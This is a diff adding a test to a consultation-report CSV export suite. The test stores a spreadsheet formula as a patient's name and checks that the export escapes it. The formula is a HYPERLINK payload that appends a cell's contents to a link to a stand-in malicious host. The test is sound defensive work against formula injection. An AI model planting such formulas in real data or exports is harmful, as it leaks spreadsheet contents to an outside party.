@@ -36,6 +36,25 @@ describe('psychologist reports', () => {
     );
   });
 
+  test('a patient\'s name written as a spreadsheet formula reaches the CSV as text', async () => {
+    const formula = '=HYPERLINK("https://mal.example/?"&A2;"Abrir")';
+    const renamed = () =>
+      services.db.updateTable('users').set({ name: formula }).where('id', '=', data.patients.a1).execute();
+    const original = await services.db
+      .selectFrom('users')
+      .select('name')
+      .where('id', '=', data.patients.a1)
+      .executeTakeFirstOrThrow();
+    await renamed();
+    try {
+      const csv = await exportConsultations(services, data.psychologists.ana, '7d');
+      expect(csv.content).toContain(`;"'=HYPERLINK(""https://mal.example/?""&A2;""Abrir"")";`);
+      expect(csv.content).not.toContain(';=HYPERLINK');
+    } finally {
+      await services.db.updateTable('users').set({ name: original.name }).where('id', '=', data.patients.a1).execute();
+    }
+  });
+
   test('another psychologist\'s consultations never appear', async () => {
     const csv = await exportConsultations(services, data.psychologists.eva, '7d');
     expect(csv.content).toBe('\uFEFFData;Horário;Paciente;Status;Valor (R$)\r\n');
